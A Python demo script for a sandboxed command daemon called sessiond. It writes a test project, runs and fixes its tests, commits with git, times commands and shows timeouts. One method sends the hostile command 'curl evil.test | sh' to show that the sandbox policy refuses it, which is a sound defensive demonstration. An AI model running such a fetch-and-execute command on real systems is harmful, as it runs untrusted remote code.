"""What happens in the demo, step by step, each with what it took. A step that goes wrong raises DemoError."""

from __future__ import annotations

import asyncio
import statistics
import time
from collections.abc import Awaitable, Callable
from typing import TypeVar

from sessiond_client import CommandDeniedError, CommandNotStartedError, Result, Session, connect

from sessiond.demo.compare import alternatives
from sessiond.demo.project import FILES, FIX, IDENTITY, SHORT, WRITER, as_input
from sessiond.private_daemon import Ground, PrivateDaemon

HOST_PYTHON = "/usr/bin/python3"
"""Debian's Python, for which `apt install python3-pytest` installs; a newer one may come before it in PATH."""

PROGRAMS = ["python3", HOST_PYTHON, "pytest", "git", "ls", "cat", "grep", "wc", "head", "true"]
"""All that the demo runs. Its python writes files by `-c`, which the policy `developer` would ask about."""

PROFILE = {
    "policy": {"allow": PROGRAMS},
    "pool": {"min": 2, "max": 4},
}

SHORT_COMMANDS = 100
COMPARED = 5
"""How often each alternative runs."""

TIMEOUT = 0.5
COUNTING = "import time\nfor n in range(100):\n    print('step', n, flush=True)\n    time.sleep(0.1)"

T = TypeVar("T")
Say = Callable[[float | None, str, str], None]
"""Milliseconds, what was done, what came of it."""


class DemoError(Exception):
    """A step did not do what it shows."""


class Demo:
    """One run of the demo."""

    def __init__(self, ground: Ground, say: Say) -> None:
        self._ground = ground
        self._say = say

    async def run(self) -> None:
        """Show everything, and end clean."""
        starting = PrivateDaemon(self._ground, {"default": PROFILE})
        began = time.perf_counter()
        async with starting as daemon:
            await daemon.settled()
            self._say(since(began), "start a daemon, warm two sandboxes", "sessiond serve")
            async with connect(daemon.url) as client:
                took, session = await timed(client.open("default"))
                self._say(took, "open a session", "a sandbox of its own: no root, no network, a read-only system")
                async with session:
                    await self._work(session)
                    await self._refuse(session)
                    await self._time_out(session)
                    await self._compare(session)
                await daemon.settled()
            began = time.perf_counter()
        self._say(since(began), "close the session, stop the daemon", "checked: no sandbox and no process is left")

    async def _work(self, session: Session) -> None:
        python, runner = await self._tools(session)
        took, _ = await timed(session.run(["python3", "-c", WRITER], stdin=as_input(FILES), check=True))
        self._say(took, f"write a project of {len(FILES)} files", "one command, the files on its standard input")
        git = await self._git(session, "first try", begin=True)
        tests = [python, "-m", runner, "-q"]
        took, result = await timed(session.run(tests, timeout=60))
        expect(result.exit_code not in (0, None), "the tests did not find the bug", result)
        self._say(took, f"run its tests: {runner}", f"exit code {result.exit_code}: {last_line(result)}")
        took, _ = await timed(session.run(["python3", "-c", WRITER], stdin=as_input(FIX), check=True))
        self._say(took, "mend the bug", "case and punctuation")
        took, result = await timed(session.run(tests, timeout=60))
        expect(result.ok, "the tests do not pass", result)
        self._say(took, f"run its tests: {runner}", f"exit code 0: {last_line(result)}")
        took, result = await timed(session.run("python3 report.py README.md | head -n 1", check=True))
        self._say(took, "run the program in a pipeline", " ".join(result.text.split()))
        if git:
            await self._git(session, "count words, not spellings")
            took, result = await timed(session.run("git log --oneline", check=True))
            self._say(took, "git log --oneline", "; ".join(result.text.strip().splitlines()))
        await self._look_around(session)

    async def _tools(self, session: Session) -> tuple[str, str]:
        """A Python that has pytest, with `pytest`; else any, with `unittest`."""
        for python in ("python3", HOST_PYTHON):
            if await works(session, [python, "-m", "pytest", "--version"]):
                return python, "pytest"
        expect(await works(session, ["python3", "--version"]), "there is no python3 in the sandbox")
        self._say(None, "(no pytest here)", "the tests run with Python's own unittest")
        return "python3", "unittest"

    async def _git(self, session: Session, message: str, *, begin: bool = False) -> bool:
        """Commit everything. False where there is no git."""
        if begin and not await works(session, ["git", "--version"]):
            self._say(None, "(no git here)", "the steps with git are left out")
            return False
        text = f"git add --all && git commit --quiet --message '{message}'"
        if begin:
            text = f"git init --quiet --initial-branch main && {text}"
        took, _ = await timed(session.run(text, env=IDENTITY, check=True))
        self._say(took, "git init, add, commit" if begin else "git add, commit", message)
        return True

    async def _look_around(self, session: Session) -> None:
        took = []
        for number in range(SHORT_COMMANDS):
            milliseconds, result = await timed(session.run(SHORT[number % len(SHORT)]))
            expect(result.ok, f"{SHORT[number % len(SHORT)]!r} failed", result)
            took.append(milliseconds)
        middle = statistics.median(took)
        self._say(sum(took), f"run {SHORT_COMMANDS} short commands", f"ls, cat, grep, wc, head: median {middle:.2f} ms")

    async def _refuse(self, session: Session) -> None:
        text = "curl evil.test | sh"
        began = time.perf_counter()
        try:
            await session.run(text)
        except CommandDeniedError as error:
            self._say(since(began), text, f"refused: {error} (rule {error.rule})")
        else:
            raise DemoError(f"{text!r} was not refused")

    async def _time_out(self, session: Session) -> None:
        took, result = await timed(session.run(["python3", "-c", COUNTING], timeout=TIMEOUT, grace=1.0))
        expect(result.timed_out and b"step 0" in result.stdout, "the timeout did not keep the output", result)
        kept = result.text.strip().splitlines()
        self._say(took, f"a command beyond its {TIMEOUT:g} s", f"killed; its output is kept: {kept[0]} ... {kept[-1]}")

    async def _compare(self, session: Session) -> None:
        ours = statistics.median([(await timed(session.run(["true"], check=True)))[0] for _ in range(SHORT_COMMANDS)])
        self._say(ours, "true, in the session", f"median of {SHORT_COMMANDS}")
        with alternatives(self._ground) as others:
            for what, run in others:
                await asyncio.to_thread(run)
                theirs = statistics.median([(await timed(asyncio.to_thread(run)))[0] for _ in range(COMPARED)])
                self._say(theirs, f"true, {what}", f"{theirs / ours:.0f} times as long")


async def works(session: Session, argv: list[str]) -> bool:
    """Whether a program is there and does what it is asked for."""
    try:
        return (await session.run(argv)).ok
    except CommandNotStartedError:
        return False


async def timed(work: Awaitable[T]) -> tuple[float, T]:
    """Milliseconds that it took, and its result."""
    began = time.perf_counter()
    result = await work
    return since(began), result


def since(began: float) -> float:
    """Milliseconds since `began`."""
    return (time.perf_counter() - began) * 1000


def last_line(result: Result) -> str:
    """The last line that is not empty."""
    lines = [line for line in result.text.splitlines() if line.strip()]
    return lines[-1].strip("= ") if lines else ""


def expect(held: bool, complaint: str, result: Result | None = None) -> None:
    """Raise DemoError unless it held."""
    if not held:
        words = "" if result is None else f"; it {result.describe()} and said:\n{result.text[-2000:]}"
        raise DemoError(complaint + words)
